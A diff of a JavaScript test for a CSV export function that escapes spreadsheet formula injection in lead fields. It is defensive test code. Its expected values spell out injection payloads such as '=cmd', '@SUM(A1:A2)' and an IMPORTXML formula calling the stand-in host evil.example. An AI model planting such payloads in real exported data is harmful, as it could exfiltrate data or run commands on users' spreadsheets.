@@ -91,8 +91,9 @@ describe('leadsToCsv', () => {
     expect(cell('last_name')).toBe("'+1+1");
     expect(cell('email')).toBe("'-2+3@example.com");
     expect(cell('company')).toBe("'@SUM(A1:A2)");
-    expect(cell('message')).toBe("'\t=1+1");
-    expect(cell('last_error')).toBe("'\r=cmd");
+    // The tab and the line end are where a spreadsheet splitting there would start a cell: defused too.
+    expect(cell('message')).toBe("'\t'=1+1");
+    expect(cell('last_error')).toBe("'\r'=cmd");
     expect(cell('page_uri')).toBe(`'=IMPORTXML("http://evil.example")`);
   });
 });
